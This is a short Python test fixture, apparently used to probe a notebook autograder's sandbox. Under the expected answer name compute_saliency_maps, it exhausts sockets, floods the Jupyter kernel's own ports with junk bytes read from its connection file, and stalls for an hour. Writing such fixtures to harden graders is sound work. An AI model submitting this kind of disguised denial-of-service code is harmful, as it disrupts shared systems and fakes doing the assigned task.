# Listens on a hundred ports and connects to each from itself, and to the kernel's own ports.
# attacks: sockets
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import json
    import socket
    import time

    from ipykernel.connect import get_connection_file

    kept = []
    for _ in range(100):
        listener = socket.create_server(("127.0.0.1", 0))
        kept += [listener, socket.create_connection(listener.getsockname())]
    with open(get_connection_file()) as file:
        ports = json.load(file)
    for name, port in ports.items():
        if name.endswith("_port"):
            try:
                kept.append(socket.create_connection(("127.0.0.1", port)))
                kept[-1].sendall(b"\xff" * 65536)
            except OSError:
                pass
    time.sleep(3600)
